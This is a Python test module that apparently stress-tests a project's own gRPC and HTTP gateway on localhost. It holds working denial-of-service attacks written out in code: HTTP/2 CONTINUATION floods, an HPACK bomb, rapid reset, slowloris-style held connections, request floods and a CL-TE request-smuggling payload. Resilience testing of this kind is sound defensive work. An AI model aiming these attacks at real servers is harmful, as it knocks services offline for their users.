"""Attacks over the wire, each until a time has passed: plain sockets, no client library.

`python -m tests.attacks.wire NAME GRPC_PORT HTTP_PORT SECONDS` runs one, in a process and from
an address of its own, so that it delays the callers that are measured by what it sends alone.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass

from specrej.client.client import build_request
from specrej.v1 import orchestrator_pb2
from tests.gateway.gateways import BODY, CHAT, MODELS, STREAM, request
from tests.http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    headers,
    unary,
    window,
)

_PRIORITY, _PING, _WINDOW_UPDATE, _CONTINUATION = 2, 6, 8, 9
_SERVICE = "/specrej.v1.OrchestratorService"
_HEALTH = "/grpc.health.v1.Health"
_BEGIN = PREFACE + frame(SETTINGS, 0, 0, b"")
_SHUT = PREFACE + window(0)  # reads no message


@dataclass(frozen=True, slots=True)
class Target:
    """The ports, and when to stop."""

    grpc: int
    http: int
    end: float

    @property
    def is_over(self) -> bool:
        """Whether the time has passed."""
        return time.monotonic() >= self.end


Attack = Callable[[Target], None]


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), 5, source_address=("127.0.0.3", 0))


def _flood(port: int, begin: bytes, more: Callable[[int], bytes], reads: bool = False) -> None:
    """Send `begin`, then `more` of 0, 1, ... until the peer ends the connection."""
    with suppress(OSError), _connected(port) as peer:
        peer.sendall(begin)
        number = 0
        while True:
            peer.sendall(more(number))
            number += 1
            if reads:
                peer.setblocking(False)
                with suppress(BlockingIOError):
                    while peer.recv(2**16):
                        pass
                peer.settimeout(5)


def _grpc(
    begin: bytes, more: Callable[[int], bytes], reads: bool = False, count: int = 6
) -> Attack:
    return lambda target: _each(count, target, lambda: _flood(target.grpc, begin, more, reads))


def _http(
    begin: bytes, more: Callable[[int], bytes], reads: bool = False, count: int = 6
) -> Attack:
    return lambda target: _each(count, target, lambda: _flood(target.http, begin, more, reads))


def _each(count: int, target: Target, play: Callable[[], None]) -> None:
    """Play again and again in so many threads, which end with the process."""

    def run() -> None:
        while not target.is_over:
            play()

    for _ in range(count):
        threading.Thread(target=run, daemon=True).start()
    time.sleep(max(0, target.end - time.monotonic()))


def _held(is_grpc: bool, count: int, data: bytes, drip: bytes = b"") -> Attack:
    """So many connections with this beginning, then a byte or so of each a second; those that are
    closed are opened again."""

    def play(target: Target) -> None:
        peers: list[socket.socket] = []
        while not target.is_over:
            with suppress(OSError):
                while len(peers) < count and not target.is_over:
                    port = target.grpc if is_grpc else target.http
                    peers.append(_connected(port))
                    peers[-1].sendall(data)
            time.sleep(0.5)
            for peer in [*peers]:
                try:
                    peer.setblocking(False)
                    peer.sendall(drip)
                    if not peer.recv(2**14):
                        raise ConnectionError
                except BlockingIOError:
                    pass
                except OSError:
                    peer.close()
                    peers.remove(peer)

    return play


def _hpack_bomb(number: int) -> bytes:
    """A name of 3,000 bytes for the dynamic table, then thousands of references to it."""
    entry = b"\x40\x01x\x7f\xb9\x16" + b"y" * 3_000 if not number else b""
    block = headers(f"{_SERVICE}/Describe", "localhost") + entry + b"\xbe" * 12_000
    return frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block)


def _reset(number: int) -> bytes:
    stream = 2 * number + 1
    return unary(stream, f"{_SERVICE}/Describe") + frame(RST_STREAM, 0, stream, bytes(4))


def _unread(number: int) -> bytes:
    """A stream of many events whose window is closed."""
    if number > 64:
        time.sleep(0.2)
        return b""
    options = {"n": 64, "max_tokens": 2000, "ignore_eos": True, "seed": number}
    whole = orchestrator_pb2.GenerateStreamRequest(request=build_request("Why?", **options))
    return unary(2 * number + 1, f"{_SERVICE}/GenerateStream", whole.SerializeToString())


_CALL = headers(f"{_SERVICE}/Generate", "localhost")
_BLOCK = b"\0\x01x\x7f\x80\x7d" + b"y" * 16_000
_OPEN = _BEGIN + frame(HEADERS, END_HEADERS, 1, _CALL)
_ENDLESS = _BEGIN + frame(HEADERS, 0, 1, _CALL)
_LONG = request(CHAT, {**BODY, "user": "x" * 9_000})
_SMUGGLED = request(CHAT, b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n", **{"transfer-encoding": "chunked"})
_CHUNKS = request(CHAT, b"").replace(b"content-length: 0", b"transfer-encoding: chunked")
_LARGE = request(CHAT, {**BODY, "user": "x" * (2**23 + 2**17)})

ATTACKS: dict[str, Attack] = {
    # Of HTTP/2
    "h2/continuation": _grpc(_ENDLESS, lambda n: frame(_CONTINUATION, 0, 1, _BLOCK)),
    "h2/empty-continuation": _grpc(_ENDLESS, lambda n: frame(_CONTINUATION, 0, 1, b"") * 500),
    "h2/hpack-bomb": _grpc(_BEGIN, _hpack_bomb, True),
    "h2/rapid-reset": _grpc(_BEGIN, _reset, True),
    "h2/ping": _grpc(_BEGIN, lambda n: frame(_PING, 0, 0, bytes(8)) * 500),
    "h2/settings": _grpc(_BEGIN, lambda n: frame(SETTINGS, 0, 0, b"") * 500),
    "h2/priority": _grpc(_BEGIN, lambda n: frame(_PRIORITY, 0, 1, bytes(5)) * 500),
    "h2/window-update": _grpc(_OPEN, lambda n: frame(_WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") * 500),
    "h2/empty-data": _grpc(_OPEN, lambda n: frame(DATA, 0, 1, b"") * 500),
    "h2/garbage": _grpc(PREFACE, lambda n: os.urandom(4096)),
    "h2/streams": _grpc(_BEGIN, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, _CALL), True),
    # Holding
    "hold/silent-grpc": _held(True, 900, b""),
    "hold/silent-http": _held(False, 900, b""),
    "hold/preface": _held(True, 900, _BEGIN),
    "hold/slow-headers": _held(False, 900, MODELS, b"x: y\r\n"),
    "hold/slow-body": _held(False, 300, _LONG[:-9_000], b"x"),
    "hold/no-message": _held(True, 300, _OPEN),
    "hold/unread-stream": _grpc(_SHUT, _unread, count=2),
    "hold/unread-health": _grpc(_SHUT, lambda n: unary(2 * n + 1, f"{_HEALTH}/Watch")),
    "hold/unread-http": _held(False, 200, request(CHAT, {**STREAM, "max_tokens": 2000, "n": 1})),
    # Work
    "flood/requests": _http(b"", lambda n: MODELS + b"\r\n", True),
    "flood/health": _grpc(_BEGIN, lambda n: unary(2 * n + 1, f"{_HEALTH}/Check"), True),
    "flood/describe": _grpc(_BEGIN, lambda n: unary(2 * n + 1, f"{_SERVICE}/Describe"), True),
    "flood/connections": lambda target: _each(6, target, lambda: _once(target.http, b"")),
    "flood/large-bodies": lambda target: _each(4, target, lambda: _once(target.http, _LARGE)),
    "flood/headers": lambda target: _each(
        6, target, lambda: _once(target.http, MODELS + b"x: " + b"y" * 2**20)
    ),
    "flood/small-chunks": _http(_CHUNKS, lambda n: b"1\r\n \r\n" * 500),
    "flood/pipelined": _http(b"", lambda n: (MODELS + b"\r\n") * 100),
    # Framing
    "framing/cl-te": lambda target: _each(
        6, target, lambda: _once(target.http, _SMUGGLED)
    ),
    "framing/garbage": _http(b"", lambda n: os.urandom(4096)),
}  # fmt: skip


def _once(port: int, data: bytes) -> None:
    with suppress(OSError), _connected(port) as peer:
        peer.sendall(data)
        if data:
            peer.recv(2**16)


if __name__ == "__main__":
    name, grpc, http, seconds = sys.argv[1:]
    ATTACKS[name](Target(int(grpc), int(http), time.monotonic() + float(seconds)))
    os._exit(0)  # threads may be inside a call
